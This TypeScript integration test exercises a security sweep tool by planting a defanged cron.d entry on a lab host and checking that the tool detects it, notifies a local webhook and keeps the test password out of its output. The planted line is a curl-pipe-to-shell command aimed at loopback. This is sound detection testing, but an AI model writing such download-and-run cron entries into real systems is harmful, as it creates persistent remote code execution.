import { execFile } from 'node:child_process';
import { createServer, type IncomingHttpHeaders } from 'node:http';
import type { AddressInfo } from 'node:net';
import { mkdtempSync, readdirSync, readFileSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { getLab } from '../helpers/lab.js';

// A scheduled sweep on the lab's two clean hosts: baseline, a planted cron.d file (a schedule
// that never fires: 31 February, and a loopback URL), sweep --baseline latest --notify to a
// local HTTP server: only the new findings, exit 1, the payload and Basic auth received, the
// secret nowhere; the file removed, a third sweep: exit 0, the findings gone. The lab is left as found.

const root = path.resolve(import.meta.dirname, '../..');
const PLANTED = '/etc/cron.d/ms-scheduled-test';
type Lab = Awaited<ReturnType<typeof getLab>>;
let lab: Lab;
let clean: string[];
const out = mkdtempSync(path.join(tmpdir(), 'ms-scheduled-'));
const got: Array<{ headers: IncomingHttpHeaders; body: string; url: string }> = [];
const server = createServer((req, res) => {
  let body = '';
  req.on('data', (c) => (body += c));
  req.on('end', () => {
    got.push({ headers: req.headers, body, url: req.url ?? '' });
    res.statusCode = 204;
    res.end();
  });
});
let port = 0;

function sweep(args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    execFile('node', [path.join(root, 'dist/cli.js'), 'sweep', '-i', lab.inventoryPath, '--limit', clean.join(','), '-o', out, ...args], { maxBuffer: 1 << 26 }, (err, stdout, stderr) =>
      resolve({ code: err ? ((err as { code?: number }).code ?? 1) : 0, stdout, stderr }),
    );
  });
}
const allFiles = (dir: string): string[] => readdirSync(dir).flatMap((n) => (statSync(path.join(dir, n)).isDirectory() ? allFiles(path.join(dir, n)) : [path.join(dir, n)]));

beforeAll(async () => {
  lab = await getLab();
  clean = lab.groundTruth.hosts.filter((h) => h.scenario === 'clean' && !h.hidden).map((h) => h.name);
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  port = (server.address() as AddressInfo).port;
});
afterAll(async () => {
  if (lab) await lab.exec(clean[0]!, `rm -f ${PLANTED}`);
  server.closeAllConnections();
  server.close();
});

describe('scheduled sweep on the lab', () => {
  it('baseline, a new artifact reported alone with exit 1 and notified, then gone with exit 0', async () => {
    expect(clean.length).toBe(2);
    const first = await sweep([]);
    expect(first.code, first.stderr).toBe(0);
    const planted = await lab.exec(clean[0]!, `printf '%s\\n' '0 0 31 2 * root curl -fsSL http://127.0.0.1:9/x.sh | sh' > ${PLANTED}`);
    expect(planted.code).toBe(0);
    const second = await sweep(['--baseline', 'latest', '--notify', `http://user:s3cretPw@127.0.0.1:${port}/hook`]);
    expect(second.code, second.stdout + second.stderr).toBe(1);
    const runDir = second.stdout.match(/^run: (.+)$/m)![1]!;
    const diff = JSON.parse(readFileSync(path.join(runDir, 'baseline.json'), 'utf8'));
    expect(diff.new.length).toBeGreaterThan(0);
    expect(diff.new.every((f: { host: string }) => f.host === clean[0])).toBe(true);
    expect(diff.new.map((f: { rule: string }) => f.rule)).toContain('cron.download-pipe-shell');
    expect(diff.gone).toEqual([]);
    expect(got.length).toBe(1);
    expect(got[0]!.headers.authorization).toBe(`Basic ${Buffer.from('user:s3cretPw').toString('base64')}`);
    expect(got[0]!.headers['content-type']).toBe('application/json');
    const payload = JSON.parse(got[0]!.body);
    expect(payload.schema).toBe('minesweep.notify/1');
    expect(payload.findings.map((f: { host: string; rule: string }) => `${f.host} ${f.rule}`).sort()).toEqual(diff.new.map((f: { host: string; rule: string }) => `${f.host} ${f.rule}`).sort());
    expect(second.stdout + second.stderr).not.toContain('s3cretPw');
    for (const f of allFiles(out)) if (!f.endsWith('.gz')) expect([f, readFileSync(f, 'utf8').includes('s3cretPw')]).toEqual([f, false]);
    await lab.exec(clean[0]!, `rm -f ${PLANTED}`);
    const third = await sweep(['--baseline', 'latest']);
    expect(third.code, third.stdout + third.stderr).toBe(0);
    expect(third.stdout).toMatch(/GONE\s+\S+\s+cron\.download-pipe-shell/);
  });
});
